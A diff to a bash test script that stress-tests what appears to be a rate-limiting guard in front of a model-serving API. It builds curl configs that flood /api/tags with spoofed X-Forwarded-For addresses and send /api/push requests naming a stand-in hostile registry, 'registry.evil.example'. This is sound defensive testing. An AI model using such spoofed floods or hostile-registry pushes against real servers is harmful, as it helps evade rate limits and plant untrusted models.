@@ -115,19 +115,23 @@ TOML
 guard=$!
 pids+=("$guard")
 wait_up "http://127.0.0.1:$port/api/version" "$guard"
-calls() { # COUNT SOURCE-EXPRESSION PATH [DATA]: a curl config, one call per COUNT
-  awk -v n="$1" -v url="$front$3" -v data="${4:-}" "BEGIN {
+calls() { # KIND COUNT PATH [JSON]: a curl config of COUNT calls; KIND names their sources
+  awk -v kind="$1" -v n="$2" -v url="$front$3" -v json="${4:-}" 'BEGIN {
+    gsub(/"/, "\\\"", json) # a double-quoted curl config value escapes its quotes
     for (i = 0; i < n; i++) {
-      if (i) print \"next\"
-      printf \"url = \\\"%s\\\"\\noutput = \\\"/dev/null\\\"\\nsilent\\n\", url
-      printf \"header = \\\"X-Forwarded-For: %s\\\"\\n\", $2
-      if (data != \"\") printf \"header = \\\"Content-Type: application/json\\\"\\ndata = \\\"%s\\\"\\n\", data
+      if (kind == "spray") src = sprintf("10.%d.%d.%d", 1 + int(i / 65536), int(i / 256) % 256, i % 256)
+      else if (kind == "hot") src = sprintf("172.16.0.%d", 1 + i % 4)
+      else src = "192.168.0.9"
+      if (i) print "next"
+      printf "url = \"%s\"\noutput = \"/dev/null\"\nsilent\n", url
+      printf "header = \"X-Forwarded-For: %s\"\n", src
+      if (json != "") printf "header = \"Content-Type: application/json\"\ndata = \"%s\"\n", json
     }
-  }"
+  }'
 }
-calls "$n" 'sprintf("10.%d.%d.%d", 1 + int(i / 65536), int(i / 256) % 256, i % 256)' /api/tags >"$work/spray.curl"
-calls $((4 * (130 + n))) 'sprintf("172.16.0.%d", 1 + i % 4)' /api/tags >"$work/hot.curl"
-calls "$n" '"192.168.0.9"' /api/push '{\\\"model\\\":\\\"registry.evil.example/x/llama3.2\\\"}' >"$work/push.curl"
+calls spray "$n" /api/tags >"$work/spray.curl"
+calls hot $((4 * (130 + n))) /api/tags >"$work/hot.curl"
+calls push "$n" /api/push '{"model":"registry.evil.example/x/llama3.2"}' >"$work/push.curl"
 clients=()
 for c in spray hot push; do curl -K "$work/$c.curl" & clients+=($!); done
 for c in "${clients[@]}"; do wait "$c"; done
